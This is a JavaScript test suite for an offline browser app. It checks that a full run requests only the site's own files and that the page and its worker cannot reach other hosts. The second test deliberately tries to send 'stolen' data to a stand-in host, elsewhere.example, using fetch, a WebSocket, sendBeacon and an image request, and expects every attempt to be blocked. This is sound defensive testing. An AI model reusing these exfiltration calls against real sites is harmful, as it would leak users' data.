// Nothing leaves the device: every request of a whole run is looked at, and one to elsewhere is tried.
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { launch, SITE } from "./browser.js";
import { serveSite } from "./server.js";
import { download, open, reviews, settings, TINY, train, tryIt, upload } from "./steps.js";

const MARK = "zanzibarquokka";
/** What Chromium asks by itself, whatever page is open: updates, sign-in, what fields of forms are for. Refused here. */
const OF_THE_BROWSER = /(^|\.)(googleapis|google|gvt1)\.com(:\d+)?$/;
let site, browser;
before(async () => {
  site = await serveSite(SITE);
  // whatever the browser asks of whomever passes by here
  browser = await launch(`--proxy-server=http://localhost:${site.port}`, "--proxy-bypass-list=<-loopback>");
});
after(async () => {
  await browser?.close();
  site?.close();
});

test("a whole run asks for nothing but the files of the site, and carries nothing of the data", async () => {
  const context = await browser.newContext();
  const seen = [];
  const sockets = [];
  context.on("request", (request) => seen.push([request.method(), request.url(), request.postData()]));
  const page = await open(context, site.address);
  page.on("websocket", (socket) => sockets.push(socket.url()));
  await upload(page, `${MARK}.csv`, reviews({ mark: MARK }));
  await settings(page, TINY);
  await train(page);
  await tryIt(page, `is ${MARK} good`);
  await download(page, "Download the model (zip)");
  await download(page, "Download the report");
  await page.getByText("Works offline from now on").waitFor();

  for (const { url, headers, body } of site.elsewhere) {
    assert.match(headers.host, OF_THE_BROWSER);
    assert.ok(!JSON.stringify([url, headers, body]).includes(MARK), url);
  }
  assert.deepEqual(sockets, []);
  const base = new URL(site.address);
  const isOfTheSite = (address) => {
    const { href, pathname, search } = new URL(address, base);
    return href.startsWith(base.href) && search === "" && existsSync(join(SITE, decodeURIComponent(pathname.slice(base.pathname.length))));
  };
  assert.ok(site.asked.length > 30, `${site.asked.length} requests`);
  for (const { method, url, headers, body } of site.asked) {
    assert.equal(method, "GET", url);
    assert.equal(body, "", url);
    assert.ok(isOfTheSite(url), url);
    assert.ok(!JSON.stringify([url, headers]).includes(MARK), url);
  }
  for (const [method, url, body] of seen) {
    // a download is made of a blob, which is in the page
    if (url.startsWith(`blob:${base.origin}/`)) continue;
    assert.deepEqual([method, body], ["GET", null], url);
    assert.ok(isOfTheSite(url), url);
  }
  await context.close();
});

test("the page and its worker cannot connect to anywhere else", async () => {
  const context = await browser.newContext();
  const page = await open(context, site.address);
  const attempt = async () => {
    const violations = [];
    globalThis.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
    const elsewhere = "https://elsewhere.example/?stolen";
    const results = [
      await fetch(elsewhere, { method: "POST", body: "stolen", mode: "no-cors" }).then(
        () => "sent",
        () => "refused",
      ),
    ];
    const socket = new Promise((resolve) => {
      try {
        const one = new WebSocket("wss://elsewhere.example/");
        one.onopen = () => resolve("sent");
        one.onerror = () => resolve("refused");
      } catch {
        resolve("refused");
      }
    });
    results.push(await socket);
    if (globalThis.document) {
      navigator.sendBeacon(elsewhere, "stolen");
      results.push(
        await new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve("sent");
          image.onerror = () => resolve("refused");
          image.src = elsewhere;
        }),
      );
    }
    await new Promise((next) => setTimeout(next, 300));
    return { results, violations };
  };
  const inPage = await page.evaluate(attempt);
  assert.deepEqual(inPage.results, ["refused", "refused", "refused"]);
  assert.ok(inPage.violations.filter((directive) => directive === "connect-src").length >= 2, String(inPage.violations));
  // its helpers only multiply: they wait for that, and hear nothing else
  const [engine, ...further] = page.workers().filter((worker) => !worker.url().endsWith("/products/helper.js"));
  assert.deepEqual(further, []);
  const inWorker = await engine.evaluate(attempt);
  assert.deepEqual(inWorker.results, ["refused", "refused"]);
  assert.ok(inWorker.violations.includes("connect-src"), `in the worker: ${inWorker.violations}`);
  assert.deepEqual(
    site.elsewhere.filter(({ headers }) => !OF_THE_BROWSER.test(headers.host)),
    [],
  );
  await context.close();
});
